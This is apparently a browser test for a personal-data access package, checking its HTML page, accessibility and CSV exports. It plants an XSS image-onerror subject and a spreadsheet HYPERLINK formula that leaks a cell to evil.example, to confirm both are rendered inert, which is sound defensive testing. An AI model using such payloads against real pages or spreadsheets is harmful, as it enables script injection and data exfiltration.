/**
 * The access package as the person who asked for it opens it: a real access
 * request on the local system (real handlers, the ASL, the emulators), the zip
 * downloaded through the emailed link and unzipped to disk, then index.html
 * opened from the folder in Debian's Chromium (playwright-core) with
 * JavaScript off, and checked with axe-core; the CSVs are read back with a
 * CSV library. Without a Chromium this file is skipped with a notice, unless
 * DSR_REQUIRE_BROWSER=1 (set by CI) makes that a failure.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { PutCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import type { Browser, Locator } from 'playwright-core';
import { type LocalSystem, startLocalSystem } from '../../infra/local/system';
import { describeWithBrowser, haveBrowser, launchChromium } from '../support/browser';
import { LocalApi, linkIn, type SesEmail } from '../support/local-api';

jest.setTimeout(240_000);

const describeBrowser = describeWithBrowser('access-package.browser.test');

const subject = {
  email: 'sari.wulandari.pkg@example.com',
  fullName: 'Sari Wulandari Paketuji',
  phone: '+6281200000077',
};
/** More than the page's default cap of 200 records per store. */
const RECORDS = 205;
const HOSTILE_SUBJECT = '<img src=x onerror="document.title=1">Tagihan';
const FORMULA_BODY = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")';

type Json = Record<string, unknown>;

let system: LocalSystem;
let dataDir: string;
let unzipped: string;
let browser: Browser;
let zip: JSZip;

/** `15498000` → `Rp 15.498.000`, grouped by hand (not by the code under test). */
const rupiah = (amount: number) => `Rp ${String(amount).replace(/\B(?=(\d{3})+(?!\d))/g, '.')}`;

async function jsonOf(name: string): Promise<{ records: Json[] }> {
  return JSON.parse((await zip.file(name)?.async('string')) ?? '{}') as { records: Json[] };
}

beforeAll(async () => {
  if (!haveBrowser) return;
  dataDir = await mkdtemp(path.join(tmpdir(), 'dsr-package-'));
  system = await startLocalSystem({ dataDir, port: 0, sesPort: 0, demoCustomers: 3 });
  const { plantSubject } = await import('../../infra/local/demo-data');
  await plantSubject(system.clients, system.dataMap, { ...subject, records: RECORDS, documents: 2 });
  // A message whose subject is markup and whose body is a spreadsheet formula, sorted first.
  const messages = system.dataMap.stores.find((s) => s.id === 'messages');
  const account = system.dataMap.stores.find((s) => s.id === 'customers');
  if (messages?.kind !== 'dynamodb' || account?.kind !== 'dynamodb') throw new Error('demo map changed');
  const { resolveSubject } = await import('../../functions/connectors/resolve-subject');
  const customerId = (await resolveSubject(system.dataMap, system.clients, subject.email)).identities
    .customerId?.[0];
  await system.clients.dynamodb.send(
    new PutCommand({
      TableName: messages.table,
      Item: {
        customerId,
        messageId: '2020-01-01T00:00:00.000Z#hostile1',
        channel: 'email',
        direction: 'inbound',
        subject: HOSTILE_SUBJECT,
        body: FORMULA_BODY,
      },
    }),
  );

  const local = new LocalApi(system);
  const { requestId, statusToken } = await local.submitVerified('access', subject.email);
  await local.until(requestId, statusToken, 'completed');
  const emails = await local.emailsFor(subject.email, requestId);
  const link = linkIn(emails[emails.length - 1] as SesEmail, 'export');
  const redirect = await fetch(link, { redirect: 'manual' });
  const download = await fetch(redirect.headers.get('location') ?? '');
  zip = await JSZip.loadAsync(Buffer.from(await download.arrayBuffer()));
  unzipped = path.join(dataDir, 'unzipped');
  for (const file of Object.values(zip.files).filter((f) => !f.dir)) {
    const target = path.join(unzipped, file.name);
    await mkdir(path.dirname(target), { recursive: true });
    await writeFile(target, await file.async('nodebuffer'));
  }
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await system?.stop();
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
});

/** The text a person reads in an element, with runs of white space as one space. */
const textOf = async (locator: Locator) => ((await locator.textContent()) ?? '').replace(/\s+/g, ' ').trim();

const indexUrl = () => pathToFileURL(path.join(unzipped, 'index.html')).href;

describeBrowser('the access package, opened from the unzipped folder', () => {
  it('shows the person their own data with JavaScript off and makes no request outside the folder', async () => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    const outside: string[] = [];
    await context.route('**/*', (route) => {
      const url = route.request().url();
      if (url.startsWith('file:')) return route.continue();
      outside.push(url);
      return route.abort();
    });
    const page = await context.newPage();
    await page.goto(indexUrl());

    // The first lines: what it is, when, for which request, what next (the form), how long the link lives
    const about = page.locator('#about');
    await expect(textOf(about)).resolves.toMatch(
      /This is a copy of the personal data Impor\.in holds about you/,
    );
    await expect(textOf(about)).resolves.toMatch(/WIB for your request \d{8}-access-/);
    await expect(about.locator(`a[href="${system.urls.api.replace(/\/$/, '')}/"]`).count()).resolves.toBe(2);
    await expect(textOf(about)).resolves.toMatch(/works for 7 days/);

    // The person's name, as a labelled field
    const customers = page.locator('#store-customers');
    await expect(customers.getByText(subject.fullName, { exact: true }).count()).resolves.toBeGreaterThan(0);
    await expect(textOf(customers)).resolves.toContain('Full name / Nama lengkap');

    // One order: its id and its amount in rupiah, in the same record
    const order = (await jsonOf('stores/orders.json')).records[0] as { orderId: string; amountIdr: number };
    const card = page.locator('#store-orders table.record', { hasText: order.orderId });
    await expect(card.count()).resolves.toBe(1);
    await expect(textOf(card)).resolves.toContain(rupiah(order.amountIdr));
    await expect(textOf(card)).resolves.toMatch(
      /Ordered at \/ Dipesan pada\s*\d{1,2} \w{3} \d{4}, \d{2}:\d{2} WIB/,
    );

    // A message subject, and the one made of markup shown as text, not run
    const message = (await jsonOf('stores/messages.json')).records.find((m) => m.subject !== HOSTILE_SUBJECT);
    await expect(
      page.locator('#store-messages').getByText(String(message?.subject), { exact: true }).count(),
    ).resolves.toBeGreaterThan(0);
    await expect(
      page.locator('#store-messages').getByText(HOSTILE_SUBJECT, { exact: true }).count(),
    ).resolves.toBe(1);
    await expect(page.locator('img').count()).resolves.toBe(0);

    // A store above the cap shows its first records and says where the rest are
    const notice = page.locator('#store-activity .cap-notice').first();
    await expect(textOf(notice)).resolves.toContain(`This page shows the first 200 of ${RECORDS} records.`);
    await expect(notice.locator('a[href="stores/activity.csv"]').count()).resolves.toBe(1);
    await expect(page.locator('#store-activity table.record').count()).resolves.toBe(200);

    // Uploaded documents: names, sizes and links that open the files inside the folder
    const files = page.locator('#store-documents ul.files li');
    await expect(files.count()).resolves.toBe(2);
    await expect(textOf(files.first())).resolves.toMatch(/\.(pdf|txt) \(\d+(\.\d)? (B|KB)\)$/);
    const href = await files.first().locator('a').getAttribute('href');
    expect(href).toMatch(/^stores\/documents\/files\//);
    await expect(readFile(path.join(unzipped, href ?? ''))).resolves.toBeInstanceOf(Buffer);

    expect(outside).toEqual([]);
    await context.close();
  });

  it('has no accessibility violations (axe-core)', async () => {
    const page = await browser.newPage();
    await page.goto(indexUrl());
    await page.addScriptTag({ path: require.resolve('axe-core/axe.min.js') });
    const result = await page.evaluate(async () => {
      const axe = (globalThis as unknown as { axe: { run: () => Promise<{ violations: unknown[] }> } }).axe;
      return (await axe.run()).violations;
    });
    expect(result).toEqual([]);
    await page.close();
  });

  it('is one self-contained file of a few megabytes at most: inline CSS, no scripts, no external resources', async () => {
    const html = await readFile(path.join(unzipped, 'index.html'), 'utf8');
    expect(Buffer.byteLength(html)).toBeLessThan(5 * 1024 * 1024);
    expect(html).not.toMatch(/<(script|link|iframe|img|object|embed|video|audio)\b|@import|url\(/i);
    expect(html).toContain('<style>');
  });

  it('holds a CSV per store that a CSV library reads back to the same records as the JSON, with formulas made inert', async () => {
    const manifest = JSON.parse((await zip.file('manifest.json')?.async('string')) ?? '{}') as {
      stores: { storeId: string; csv: { file: string } }[];
    };
    expect(manifest.stores.length).toBeGreaterThan(5);
    for (const store of manifest.stores) {
      const bytes = await zip.file(store.csv.file)?.async('nodebuffer');
      expect(bytes?.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const rows = parse(bytes ?? Buffer.alloc(0), { bom: true, columns: true }) as Record<string, string>[];
      const records = (await jsonOf(`stores/${store.storeId}.json`)).records;
      expect(rows).toHaveLength(records.length);
      expect(rows.map((row, i) => fromRow(row, records[i] ?? {}))).toEqual(records);
    }
    const messages = parse((await zip.file('stores/messages.csv')?.async('nodebuffer')) ?? '', {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    const hostile = messages.find((m) => m.subject === HOSTILE_SUBJECT);
    expect(hostile?.body).toBe(`'${FORMULA_BODY}`);
    const orders = parse((await zip.file('stores/orders.csv')?.async('nodebuffer')) ?? '', {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    // Phone numbers start with "+", which a spreadsheet would compute: they are inert too.
    expect(orders[0]?.recipientPhone).toMatch(/^'\+62/);
  });
});

/**
 * A CSV row read back as the JSON record it came from, using the record only
 * for the types of its values: dotted columns nest, a leading quote before a
 * formula character is dropped, lists are JSON, numbers and booleans are typed.
 */
function fromRow(row: Record<string, string>, like: Json): Json {
  const out: Json = {};
  const typed = (cell: string, original: unknown): unknown => {
    const text = /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
    if (typeof original === 'number') return Number(text);
    if (typeof original === 'boolean') return text === 'true';
    if (typeof original === 'object' && original !== null) return JSON.parse(text);
    return text;
  };
  const valueAt = (record: Json, dotted: string): unknown =>
    dotted.split('.').reduce<unknown>((v, k) => (v as Json | undefined)?.[k], record);
  for (const [column, cell] of Object.entries(row)) {
    const original = valueAt(like, column);
    if (cell === '' && original === undefined) continue;
    const keys = column.split('.');
    let target = out;
    for (const key of keys.slice(0, -1)) {
      target[key] ??= {};
      target = target[key] as Json;
    }
    target[keys[keys.length - 1] as string] = typed(cell, original);
  }
  return out;
}
